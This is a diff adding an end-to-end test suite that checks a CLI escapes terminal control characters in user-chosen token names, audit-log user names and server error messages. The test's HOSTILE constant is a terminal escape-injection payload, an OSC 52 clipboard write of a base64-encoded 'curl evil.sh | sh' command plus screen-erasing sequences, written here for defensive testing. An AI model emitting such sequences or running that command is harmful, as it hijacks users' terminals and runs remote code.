@@ -1,0 +1,75 @@
+/**
+ * What others wrote never reaches the terminal as control characters. An admin's listings
+ * show strings other people chose: every user's token names (`token ls --all`), the user
+ * name an anonymous client tried to log in with (`admin audit`);
+ * and an error line shows what the server said. An ESC sequence in one of them, printed raw,
+ * clears the screen, hides rows, retitles the window or (OSC 52) puts a command on the
+ * clipboard. The CLI writes each control character out as `\xNN` instead.
+ */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ok, startWorld, type E2EWorld } from '../helpers/e2e.js';
+
+// OSC 52 (clipboard := "curl evil.sh | sh"), then "cursor up, erase line", a bell, an 8-bit CSI.
+const HOSTILE = 'x\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\u0007\u001b[1A\u001b[2K\r\u009b2Jy';
+const SHOWN = 'x\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\\x07\\x1b[1A\\x1b[2K\\x0d\\x9b2Jy';
+// eslint-disable-next-line no-control-regex
+const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
+
+let w: E2EWorld;
+let alice: string;
+
+async function api(path: string, token: string | undefined, body: unknown): Promise<Response> {
+  return fetch(`${w.server.url}${path}`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
+    body: JSON.stringify(body),
+  });
+}
+
+beforeAll(async () => {
+  w = await startWorld();
+  expect((await api('/api/v1/users', w.server.adminToken, { name: 'alice', password: 'Correct-Horse-alice-42x!' })).status).toBe(201);
+  const login = await api('/api/v1/auth/login', undefined, { user: 'alice', password: 'Correct-Horse-alice-42x!' });
+  alice = ((await login.json()) as { token: string }).token;
+});
+afterAll(async () => {
+  await w?.close();
+});
+
+describe('strings other people chose, in the CLI', () => {
+  it("shows a user's token name to the admin's `token ls --all` with its controls written out", async () => {
+    expect((await api('/api/v1/tokens', alice, { name: HOSTILE, scopes: ['read'] })).status).toBe(201);
+    const out = ok(await w.ferry(['token', 'ls', '--all'])).stdout;
+    expect(out).toContain(SHOWN);
+    expect(out).not.toMatch(CONTROLS);
+    // --json is for programs: the name as it is.
+    const json = JSON.parse(ok(await w.ferry(['token', 'ls', '--all', '--json'])).stdout) as Array<{ name: string }>;
+    expect(json.map((t) => t.name)).toContain(HOSTILE);
+  });
+
+  it('shows the user name of an anonymous failed login in `admin audit` with its controls written out', async () => {
+    expect((await api('/api/v1/auth/login', undefined, { user: HOSTILE, password: 'wrong' })).status).toBe(401);
+    const out = ok(await w.ferry(['admin', 'audit', '--event', 'auth.login'])).stdout;
+    expect(out).toContain(SHOWN);
+    expect(out).not.toMatch(CONTROLS);
+  });
+
+  it("writes out the controls of a server's error message, keeping its lines", async () => {
+    const hostile: Server = createServer((_req, res) => {
+      res.writeHead(400, { 'content-type': 'application/json' });
+      res.end(JSON.stringify({ error: { code: 'FERRY_ERR_VALIDATION', message: `${HOSTILE}\nsecond line` } }));
+    });
+    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
+    try {
+      const url = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
+      const r = await w.ferry(['ls', '/', '--server', url, '--token', 'ferry_0000000000000000_x', '--retries', '0']);
+      expect(r.code).not.toBe(0);
+      expect(r.stderr).toContain(`${SHOWN}\nsecond line`);
+      expect(r.stderr).not.toMatch(CONTROLS);
+    } finally {
+      await new Promise<void>((resolve) => hostile.close(() => resolve()));
+    }
+  });
+});
